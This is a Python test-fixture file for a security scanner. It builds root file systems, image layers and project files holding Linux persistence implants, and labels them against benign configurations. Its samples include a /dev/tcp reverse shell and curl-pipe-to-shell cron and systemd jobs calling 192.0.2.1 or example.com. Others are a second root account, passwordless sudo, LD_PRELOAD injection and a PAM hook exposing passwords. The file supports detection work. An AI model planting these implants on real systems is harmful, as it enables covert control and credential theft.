"""Orders that stay, in root file systems and beside models; and what honest systems, images and repositories hold."""

from __future__ import annotations

import json

from modelsweep.core.report import Verdict
from tests.scanners.case import Case
from tests.scanners.oci.image import config, layer, layout
from tests.scanners.tar.cases import entry, tar
from tests.scanners.zip.cases import made

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI" + "B" * 43 + " somebody@somewhere\n"
"""Of nobody: no such point is on the curve."""
UNIT = "[Unit]\nDescription=x\n[Service]\n{}\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
ODD = {
    "preload": ("etc/ld.so.preload", "/tmp/.x/libx.so\n"),
    "preload_of_no_name": ("etc/ld.so.preload", "/usr/local/lib/libselinux.so.8\n"),
    "login_key": ("root/.ssh/authorized_keys", f"# keys\n{KEY}"),
    "login_key_with_command": ("home/m/.ssh/authorized_keys2", f'command="/bin/sh",no-pty {KEY}'),
    "libraries": ("etc/ld.so.conf.d/x.conf", "/tmp/lib\n"),
    "cron": ("etc/cron.d/job", "SHELL=/bin/sh\n* * * * * root /tmp/.u/run.sh\n"),
    "cron_of_root": ("var/spool/cron/crontabs/root", "*/10 * * * * /var/tmp/.update >/dev/null 2>&1\n"),
    "cron_at_start": ("etc/crontab", "@reboot root python3 -u /dev/shm/a.py\n"),
    "cron_that_fetches": ("etc/cron.d/job", "*/5 * * * * root curl -s https://example.com/a.sh | bash\n"),
    "sudo": ("etc/sudoers.d/svc", "www-data ALL=(ALL:ALL) NOPASSWD: ALL\n"),
    "sudo_of_a_shell": ("etc/sudoers.d/svc", "svc ALL=(root) SETENV: NOPASSWD: /usr/bin/id, /bin/bash\n"),
    "sudo_without_asking": ("etc/sudoers", "Defaults env_reset, !authenticate\n"),
    "second_root": ("etc/passwd", "root:x:0:0:root:/root:/bin/bash\nsys2:x:0:0::/:/bin/bash\n"),
    "unit": ("etc/systemd/system/upd.service", UNIT.format("ExecStart=-/tmp/upd --daemon")),
    "unit_that_fetches": (
        "usr/lib/systemd/system/upd.service",
        UNIT.format("ExecStart=/bin/sh -c 'curl -fsSL https://example.com/s | sh'"),
    ),
    "unit_with_library": (
        "home/m/.config/systemd/user/serve.service",
        UNIT.format('Environment="LD_PRELOAD=/tmp/x.so"\nExecStart=/usr/bin/serve'),
    ),
    "profile": ("etc/profile.d/upd.sh", "(nohup /usr/lib/.sysd/x >/dev/null 2>&1 &)\n"),
    "profile_in_folder": ("etc/profile.d/cd.sh", "cd /tmp && ./a &\n"),
    "profile_hostile": ("etc/profile.d/x.sh", "bash -i >& /dev/tcp/192.0.2.1/9 0>&1 &\n"),
    "bashrc": ("root/.bashrc", "export PROMPT_COMMAND='/tmp/.p'\n"),
    "alias": ("etc/bash.bashrc", "alias sudo='/tmp/.s/sudo'\n"),
    "environment": ("etc/environment", "LD_AUDIT=/dev/shm/x.so\n"),
    "init": ("etc/init.d/x", "#!/bin/sh\n### BEGIN INIT INFO\nif true; then nohup /dev/shm/.k & fi\n"),
    "udev": ("etc/udev/rules.d/99-x.rules", 'ACTION=="add", RUN+="/tmp/x.sh"\n'),
    "pam": ("etc/pam.d/common-auth", "auth optional pam_exec.so quiet expose_authtok /tmp/log.sh\n"),
    "pam_module": ("etc/pam.d/sshd", "auth sufficient /usr/lib/.pam/pam_x.so\n"),
    "apt": ("etc/apt/apt.conf.d/99x", 'APT::Update::Pre-Invoke {"/tmp/x &";};\n'),
    "autostart": ("etc/xdg/autostart/x.desktop", "[Desktop Entry]\nType=Application\nExec=/tmp/x\n"),
    "modprobe": ("etc/modprobe.d/x.conf", "install tipc /bin/sh -c '/tmp/x; true'\n"),
    "logrotate": ("etc/logrotate.d/x", "/var/log/x {\n postrotate\n  /tmp/x\n endscript\n}\n"),
    "proxy": ("root/.ssh/config", "Host *\n  ProxyCommand /tmp/x %h %p\n"),
    "conda": ("opt/conda/etc/conda/activate.d/x.sh", "source /tmp/x.sh\n"),
}
HONEST = {
    "etc/ld.so.preload": "/usr/lib/libjemalloc.so.2\n/usr/lib/arm-linux-gnueabihf/libarmmem-${PLATFORM}.so\n",
    "etc/ld.so.conf.d/cuda.conf": "/usr/local/cuda/targets/x86_64-linux/lib\n",
    "etc/cron.d/e2scrub_all": "30 3 * * 0 root test -e /run/systemd || SERVICE_MODE=1 /usr/lib/e2scrub_all_cron\n",
    "etc/cron.d/app": "*/5 * * * * root /usr/local/bin/python /app/refresh.py >> /tmp/cron.log 2>&1\n"
    "0 3 * * * root find /tmp -type f -mtime +3 -delete\n0 4 * * * root rm -rf /tmp/cache/*\n"
    '@daily root "/root/.acme.sh"/acme.sh --cron --home "/root/.acme.sh" > /dev/null\n',
    "etc/crontab": "25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts /etc/cron.daily; }\n",
    "etc/sudoers": "Defaults\tenv_reset\nroot\tALL=(ALL:ALL) ALL\n%sudo\tALL=(ALL:ALL) ALL\n",
    "etc/sudoers.d/README": "# %admin ALL=(ALL) NOPASSWD: ALL\n",
    "etc/sudoers.d/vscode": "vscode ALL=(root) NOPASSWD:ALL\n",
    "etc/sudoers.d/ops": "deploy ALL=(root) NOPASSWD: /usr/bin/systemctl restart serve\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n"
    "operator:x:0:0:root:/root:/sbin/nologin\n",
    "etc/systemd/system/serve.service": UNIT.format(
        "WorkingDirectory=/opt/serve\nEnvironment=LD_PRELOAD=/usr/lib/libtcmalloc.so.4 PYTHONPATH=/srv TMPDIR=/tmp\n"
        "ExecStartPre=/bin/mkdir -p /tmp/serve\nExecStart=/opt/serve/.venv/bin/python -m serve\nPIDFile=/tmp/serve.pid"
    ),
    "etc/profile.d/cuda.sh": "export PATH=/usr/local/cuda/bin${PATH:+:${PATH}}\n. /opt/conda/etc/conda.sh\n",
    "etc/init.d/x11-common": '#!/bin/sh\nfn="$(mktemp /tmp/test.XXXXXXXXXX)" || return 1\nrm -f /tmp/.X*-lock\n',
    "etc/environment": 'PATH="/usr/local/sbin:/usr/bin:/bin"\nLD_PRELOAD=/usr/lib/libjemalloc.so.2\n',
    "etc/apt/apt.conf.d/docker-clean": 'DPkg::Post-Invoke { "rm -f /var/cache/apt/archives/*.deb || true"; };\n',
    "etc/pam.d/common-auth": "auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth requisite pam_deny.so\n",
    "root/.bashrc": "# >>> conda\n__conda_setup=\"$('/opt/conda/bin/conda' 'shell.bash' 'hook' 2> /dev/null)\"\n"
    'if [ $? -eq 0 ]; then\n    eval "$__conda_setup"\nfi\n[ -f ~/.fzf.bash ] && source ~/.fzf.bash\n',
    "root/.ssh/known_hosts": f"example.com {KEY}",
    "root/.ssh/id_ed25519.pub": KEY,
}
VARIABLES = {
    "preload": "LD_PRELOAD=/tmp/x.so",
    "preload_of_no_name": "LD_PRELOAD=/usr/lib/libsystem32.so",
    "preload_of_a_longer_name": "LD_PRELOAD=/usr/lib/libzprocess.so",
    "audit": "LD_AUDIT=/var/tmp/a.so",
    "python": "PYTHONSTARTUP=/opt/boot/hook.py",
    "python_folder": "PYTHONPATH=/tmp/p:/app",
    "breakpoint": "PYTHONBREAKPOINT=os.system",
    "bash": "BASH_ENV=/usr/share/.x",
    "node": "NODE_OPTIONS=--max-old-space-size=4096 --require /tmp/x.js",
    "perl": "PERL5OPT=-M/tmp/x",
    "ruby": "RUBYOPT=-W0 -r/dev/shm/x",
    "java": "JAVA_TOOL_OPTIONS=-Xmx4g -javaagent:/tmp/a.jar",
    "git": "GIT_SSH_COMMAND=/tmp/ssh -o BatchMode=yes",
    "prompt": "PROMPT_COMMAND=curl http://192.0.2.1/x|sh",
    "path": "PATH=/tmp/.b:/usr/bin",
}
HONEST_VARIABLES = (
    *(
        "PATH=/opt/conda/bin:/usr/bin",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2:/usr/lib/libtcmalloc.so.4",
    ),
    *("LD_PRELOAD=/opt/venv/lib/python3.11/site-packages/scikit_learn.libs/libgomp-d22c30c5.so.1.0.0", "LD_PRELOAD="),
    *("BASH_ENV=/etc/bash.bashrc", "ENV=/etc/shinit_v2", "BASH_ENV=~/.bash_env", "PYTHONSTARTUP=/root/.pythonrc.py"),
    *("NODE_OPTIONS=--max-old-space-size=4096 --require /app/tracing.js", "PYTHONPATH=/app:/app/src", "TMPDIR=/tmp"),
    *("JAVA_TOOL_OPTIONS=-Djava.io.tmpdir=/tmp/x -XX:HeapDumpPath=/tmp/ -javaagent:/opt/jmx.jar", "HOME=/tmp"),
    *("GIT_SSH_COMMAND=ssh -i /tmp/key -o StrictHostKeyChecking=no", "LESSOPEN=| /usr/bin/lesspipe %s"),
    *("PYTHONBREAKPOINT=ipdb.set_trace", "LD_LIBRARY_PATH=/usr/local/nvidia/lib:/usr/local/nvidia/lib64"),
)
BESIDE = {
    "dotenv": (".env", "LD_PRELOAD=./libhook.so\n"),
    "dotenv_of_a_name": ("serve.env", "export LD_PRELOAD=/tmp/x.so\n"),
    "dotenv_local": (".env.local", 'PYTHONSTARTUP="./boot.py"\n'),
    "dotenv_hostile": (".env", "GIT_SSH_COMMAND=\"sh -c 'curl http://192.0.2.1/x | sh'\"\n"),
    "dotenv_bash": (".env", "BASH_ENV=.hooks/x.sh\n"),
    "direnv": (".envrc", "export PYTHONSTARTUP=$PWD/boot.py\n"),
    "direnv_git": (".envrc", "export GIT_SSH_COMMAND=./ssh.sh\n"),
    "direnv_node": (".envrc", "export NODE_OPTIONS='--require ./x.js'\n"),
    "zsh": (".zshenv", "export DYLD_INSERT_LIBRARIES=$PWD/x.dylib\n"),
    "npm": (".npmrc", "save-exact=true\nscript-shell=./x.sh\n"),
    "npm_options": (".npmrc", "node-options=--require ./x.js\n"),
    "renviron": (".Renviron", "R_PROFILE_USER=./x.R\n"),
    "dockerfile": ("Dockerfile", "FROM python:3.11\nENV LD_PRELOAD=/tmp/x.so\n"),
    "dockerfile_of_old": ("Dockerfile", "FROM python:3.11\nENV LD_PRELOAD /tmp/x.so\n"),
    "compose": ("docker-compose.yml", "services:\n  a:\n    environment:\n      LD_PRELOAD: /tmp/x.so\n"),
    "service": ("serve.service", UNIT.format("Environment=LD_PRELOAD=/tmp/x.so\nExecStart=/usr/bin/serve")),
}
HONEST_BESIDE = {
    "dotenv": (
        ".env",
        (
            "PYTHONPATH=.:./src\nENV=production\nBROWSER=none\nLD_PRELOAD=/usr/lib/libtcmalloc.so.4\n"
            "GIT_SSH_COMMAND='ssh -i ./deploy_key'\n# LD_PRELOAD=/tmp/x.so\nSTORE=env.py\n"
        ),
    ),
    "direnv": (".envrc", "layout python\nexport PYTHONPATH=$PWD/src\nexport PATH=$PWD/bin:$PATH\ndotenv\n"),
    "script": (
        "run.sh",
        (
            "#!/bin/sh\nexport LD_PRELOAD=/opt/x/libfoo.so:$LD_PRELOAD\nPYTHONPATH=/tmp/build python train.py\n"
            "LD_PRELOAD=./build/libhook.so ./app\nexport LD_PRELOAD=${TCMALLOC}\n"
        ),
    ),
    "dockerfile": (
        "Dockerfile",
        (
            "FROM nvidia/cuda:12.4.1-base\nENV LD_PRELOAD=/usr/lib/libjemalloc.so.2\nENV BASH_ENV ~/.bash_env\n"
            "RUN PYTHONPATH=/tmp/x pip install . && rm -rf /tmp/x\n"
        ),
    ),
    "desktop": ("webui.desktop", "[Desktop Entry]\nType=Application\nExec=sh -c 'cd ~/webui && ./run.sh'\n"),
}


def in_layer(path: str, content: str, verdict: Verdict) -> Case:
    """Return the case of an image of which a layer holds a file."""
    return Case(lambda: layout(layer(entry(path, content.encode()))), "image.tar", verdict)


def in_archive(path: str, content: str) -> Case:
    """Return the case of an archive that holds a file."""
    return Case(lambda: tar(entry(path, content.encode())), "rootfs.tar", Verdict.REVIEW)


def started_with(*variables: str, verdict: Verdict) -> Case:
    """Return the case of the configuration of an image."""
    return Case(lambda: config(Env=["LANG=C.UTF-8", *variables]), "config.json", verdict)


def text(name: str, content: str, verdict: Verdict) -> Case:
    """Return the case of a text; a shorter one is a text as well."""
    return Case(content.encode, name, verdict, cut_is_clean=True)


IN_EDITOR = {"terminal.integrated.env.linux": {"LD_PRELOAD": "${workspaceFolder}/x.so"}}
IN_CONTAINER = {"image": "x", "containerEnv": {"PYTHONSTARTUP": "/workspaces/m/boot.py"}}
HONEST_EDITOR = {"terminal.integrated.env.linux": {"PYTHONPATH": "${workspaceFolder}", "LD_LIBRARY_PATH": "/opt/lib"}}
CASES = {
    **{f"archive_{name}": in_archive(*odd) for name, odd in ODD.items() if "hostile" not in name},
    "layer_hostile": in_layer(*ODD["profile_hostile"], Verdict.MALICIOUS),
    "layer_preload": in_layer(*ODD["preload"], Verdict.REVIEW),
    "layer_login_key": in_layer(*ODD["login_key"], Verdict.REVIEW),
    "benign_system": Case(
        lambda: tar(*(entry(path, content.encode()) for path, content in HONEST.items())), "rootfs.tar", Verdict.CLEAN
    ),
    "benign_layer": Case(
        lambda: layout(layer(*(entry(path, content.encode()) for path, content in HONEST.items()))),
        "image.tar",
        Verdict.CLEAN,
    ),
    "key_in_zip": Case(
        lambda: made(("model.onnx_data", b"\1\0\2"), (".ssh/authorized_keys", KEY.encode())),
        "model.zip",
        Verdict.REVIEW,
    ),
    **{f"variable_{name}": started_with(variable, verdict=Verdict.REVIEW) for name, variable in VARIABLES.items()},
    "benign_variables": started_with(*HONEST_VARIABLES, verdict=Verdict.CLEAN),
    "benign_other_env": Case(
        lambda: json.dumps({"Env": ["LD_PRELOAD=/tmp/x.so"]}).encode(), "config.json", Verdict.CLEAN
    ),
    **{f"beside_{name}": text(*odd, Verdict.REVIEW) for name, odd in BESIDE.items()},
    **{f"benign_beside_{name}": text(*honest, Verdict.CLEAN) for name, honest in HONEST_BESIDE.items()},
    "editor": text("settings.json", json.dumps(IN_EDITOR), Verdict.REVIEW),
    "container": text("devcontainer.json", json.dumps(IN_CONTAINER), Verdict.REVIEW),
    "benign_editor": text("settings.json", json.dumps(HONEST_EDITOR), Verdict.CLEAN),
    "java_that_runs": text("config.properties", 'vmargs=-Xmx4g -XX:OnError="/tmp/x.sh"\n', Verdict.REVIEW),
    "java_with_an_agent": text("gradle.properties", "org.gradle.jvmargs=-javaagent:./libs/a.jar\n", Verdict.REVIEW),
    "benign_java": text(
        "config.properties",
        'model_store=/models\nvmargs=-Xmx4g -XX:+ExitOnOutOfMemoryError -XX:OnOutOfMemoryError="kill -9 %p"\n',
        Verdict.CLEAN,
    ),
    "benign_npm": text(".npmrc", "save-exact=true\nnode-options=--max-old-space-size=4096\n", Verdict.CLEAN),
}
